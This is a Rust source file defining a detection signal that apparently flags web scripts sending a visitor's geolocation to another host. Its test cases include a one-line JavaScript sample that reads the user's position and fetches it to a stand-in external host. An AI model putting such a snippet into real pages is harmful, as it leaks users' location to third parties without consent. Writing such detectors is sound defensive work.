//! `place-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "place-sent-abroad",
    description: "The script sends the visitor's position to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::PlaceSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "navigator.geolocation.getCurrentPosition(p=>fetch('https://c.example/g?'+p.coords.latitude+','+p.coords.longitude))",
        ],
        without: &["navigator.geolocation.getCurrentPosition(p=>fetch('/shops?lat='+p.coords.latitude))"],
    },
};
